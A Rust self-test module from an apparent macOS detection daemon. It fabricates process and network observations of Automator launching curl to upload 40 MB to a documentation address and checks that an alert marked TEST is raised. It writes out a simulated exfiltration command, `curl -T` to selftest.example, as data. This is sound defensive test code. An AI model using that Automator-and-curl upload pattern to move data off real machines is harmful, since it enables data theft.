//! A harmless, marked finding of the very kind that AN1227 describes, for the proof that one would arrive.
//!
//! Automator that runs `curl`, which sends 40 MB to an address for documentation (RFC 5737): none of it happens. The observations go through an
//! engine of their own, so that no baseline learns of them, and what comes out goes into the daemon's own spool and to every sink.

use std::sync::Arc;

use crate::alert::Alert;
use crate::detect;
use crate::engine::{Engine, Settings, Verdict};
use crate::observation::{
    CodeSigning, Credentials, Direction, Exec, Executable, FlowReport, FlowState, Message, Observation,
    Origin, ProcessInfo, ProcessKey, RecordingHeader, Timestamp, Transport,
};

/// The finding, marked as a test: `"test": true`, and a sentence that begins with `TEST`.
///
/// # Errors
/// Where the road alerts on nothing, which is what a self-test is for.
pub(super) fn finding(settings: &Settings, host: &str, now: Timestamp) -> Result<Alert, String> {
    let mut engine = Engine::new(Settings {
        // A Mac that has not learnt yet alerts on this all the same; and no exception of the organisation's hides a test.
        detection: detect::Settings {
            alerts_per_mac_per_day: LOOSEST_BUDGET,
            fleet: None,
            learn_days: 0,
            ..settings.detection.clone()
        },
        privacy: settings.privacy.clone(),
        ..Settings::default()
    });
    let mut verdicts = Vec::new();
    for observation in observations(host, now) {
        engine.observe(&observation, &mut verdicts);
    }
    engine.finish(&mut verdicts);
    let alert = verdicts.into_iter().find_map(|verdict| match verdict {
        Verdict::Alert(alert) => Some(*alert),
        Verdict::Suppressed(_) | Verdict::Digest(_) => None,
    });
    let mut alert = alert.ok_or(
        "Automator ran curl, which sent 40 MB to a new place, and nothing was found unusual in that",
    )?;
    alert.test = true;
    alert.summary = format!("TEST, nothing happened: {}", alert.summary);
    Ok(alert)
}

fn observations(host: &str, now: Timestamp) -> [Observation; 4] {
    let automator = process(
        FIRST_PID,
        1,
        "/System/Applications/Automator.app/Contents/MacOS/Automator",
        "com.apple.Automator",
        LAUNCHD,
    );
    let launched = process(FIRST_PID, 0, "/usr/libexec/xpcproxy", "com.apple.xpc.proxy", LAUNCHD);
    let curl = process(FIRST_PID + 1, 1, "/usr/bin/curl", "com.apple.curl", automator.key);
    let forked = ProcessInfo {
        key: ProcessKey { pidversion: Some(0), ..curl.key },
        parent: Some(automator.key),
        ..automator.clone()
    };
    let header = RecordingHeader { host: Some(Arc::from(host)), ..RecordingHeader::default() };
    let report = FlowReport {
        time: now,
        flow_id: "selftest".into(),
        origin: Origin::default(),
        pid: Some(curl.key.pid),
        pidversion: curl.key.pidversion,
        effective_pid: None,
        process: None,
        transport: Transport::Tcp,
        local: ([192, 0, 2, 1], 50_000).into(),
        remote: ([198, 51, 100, 1], 443).into(),
        direction: Some(Direction::Outbound),
        interface: None,
        protocol: Some("tls".into()),
        server_name: Some("selftest.example".into()),
        bytes_out: 40_000_000,
        bytes_in: 1_000,
        packets_out: 30_000,
        packets_in: 10,
        wire_bytes_out: None,
        wire_bytes_in: None,
        state: FlowState::Closed,
    };
    [
        Observation::Recording(Box::new(header)),
        exec(launched, automator, &["Automator"], now),
        exec(forked, curl, &["curl", "-T", "selftest", "https://selftest.example/"], now),
        Observation::Flow(Box::new(report)),
    ]
}

fn exec(actor: ProcessInfo, target: ProcessInfo, arguments: &[&str], time: Timestamp) -> Observation {
    let arguments: Vec<Arc<str>> = arguments.iter().map(|argument| Arc::from(*argument)).collect();
    Observation::Exec(Box::new(Exec {
        message: Message { time, mach_time: None, version: 0, seq_num: None, global_seq_num: None },
        actor,
        target,
        arguments_total: u32::try_from(arguments.len()).unwrap_or(u32::MAX),
        arguments,
        environment: Vec::new(),
        script: None,
        cwd: None,
        dyld_exec_path: None,
        cpu_type: None,
        denied: false,
    }))
}

/// A program of Apple's, in its first or second generation.
fn process(pid: i32, generation: i32, path: &str, signing_id: &str, parent: ProcessKey) -> ProcessInfo {
    ProcessInfo {
        key: ProcessKey { pid, pidversion: Some(generation) },
        parent: Some(parent),
        responsible: None,
        ppid: parent.pid,
        original_ppid: Some(parent.pid),
        group_id: None,
        session_id: None,
        credentials: Credentials::default(),
        executable: Executable { path: path.into(), path_truncated: false },
        signing: CodeSigning {
            flags: CodeSigning::VALID | CodeSigning::SIGNED,
            is_platform_binary: true,
            signing_id: Some(signing_id.into()),
            team_id: None,
            cdhash: None,
        },
        is_es_client: false,
        tty: None,
        start_time: None,
    }
}

const LAUNCHD: ProcessKey = ProcessKey { pid: 1, pidversion: Some(1) };
const FIRST_PID: i32 = 1_000;
/// The most that a budget may be: see `detect::Settings::validate`.
const LOOSEST_BUDGET: f64 = 10.0;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_finding_is_of_the_kind_that_the_analytic_describes_and_says_that_it_is_a_test() {
        let now = Timestamp::from_seconds(1_780_000_000, 0);
        let alert = finding(&Settings::default(), "mac", now).unwrap();
        assert_eq!(alert.subject.to_string(), "apple:com.apple.curl < apple:com.apple.Automator");
        assert!(alert.test && alert.summary.starts_with("TEST"));
        assert_eq!((&*alert.host.name, alert.time), ("mac", now));
        for format in [crate::alert::Format::Native, crate::alert::Format::Ocsf, crate::alert::Format::Ecs] {
            assert!(alert.render(format).contains("TEST, nothing happened"));
        }
        let read = Alert::read(&alert.to_json()).unwrap();
        assert!(read.test);
    }
}
